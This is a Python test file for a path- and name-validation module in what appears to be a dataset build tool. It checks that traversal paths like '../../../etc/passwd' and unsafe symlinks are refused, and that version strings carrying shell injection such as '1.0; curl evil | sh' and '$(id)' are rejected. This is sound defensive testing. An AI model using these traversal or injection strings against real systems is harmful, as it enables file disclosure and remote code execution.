"""Names and paths from outside are what they may be, or are refused before use."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from psgimg.builder.errors import BuildError
from psgimg.builder.files import safe_names

ESCAPES = (
    "../outside",
    "../../../etc/passwd",
    "/etc/passwd",
    "a/../../b",
    "..\\..\\b",
    "C:\\b",
    "C:b",
    "\\\\server\\share",
    "a\0b",
    "a\nb",
    "a\u2028b",
    "a//b",
    "./a",
    "a/.",
    "",
    ".",
    "..",
    "nul",
    "aux.txt",
    "x" * 1000,
)


@pytest.mark.parametrize("text", ESCAPES, ids=repr)
def test_what_leads_out_of_a_folder_is_neither_a_path_nor_a_name(text, tmp_path):
    assert not safe_names.is_path(text)
    assert not safe_names.is_name(text)
    assert not safe_names.is_corpus(text)
    with pytest.raises(BuildError) as caught:
        safe_names.inside(tmp_path, text)
    assert "\n" not in str(caught.value)
    assert "\0" not in str(caught.value)


@pytest.mark.parametrize(
    "name", ["SC4001", "shhs1-200001", "II-003-1", "tp8cbd54f0_4751", "r0001", "Ü1"]
)
def test_names_of_recordings_are_names(name):
    assert safe_names.is_name(name)


@given(st.text(max_size=40))
def test_every_accepted_path_stays_in_its_folder(text):
    if safe_names.is_path(text):
        folder = Path("/data/release")
        assert (folder / text).resolve().is_relative_to(folder)
        assert (folder / text).resolve() != folder


@given(st.text(max_size=40))
def test_every_accepted_name_is_one_part_of_a_path(text):
    if safe_names.is_name(text) or safe_names.is_corpus(text):
        assert len(Path(text).parts) == 1
        assert Path(text).name == text


@pytest.mark.parametrize(
    "text", ["1.0; curl evil | sh", "1.0`id`", "$(id)", "1 0", "-r evil.txt", ""]
)
def test_a_version_is_nothing_that_a_shell_would_run(text):
    assert not safe_names.is_version(text)


def test_a_link_that_leaves_the_folder_is_refused_at_any_depth(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "other.parquet").write_bytes(b"kept")
    folder = tmp_path / "release"
    (folder / "data").mkdir(parents=True)
    (folder / "data" / "demo").symlink_to(outside)
    for name in ("data/demo/other.parquet", "data/demo"):
        with pytest.raises(BuildError, match=r"is a link to .*outside"):
            safe_names.inside(folder, name)
    with pytest.raises(BuildError, match="remove the link"):
        safe_names.refuse_links(folder, ["data"])


def test_a_link_within_the_folder_is_followed(tmp_path):
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "a").write_bytes(b"")
    (tmp_path / "data" / "b").symlink_to("a")
    assert safe_names.inside(tmp_path, "data/b") == tmp_path / "data" / "b"
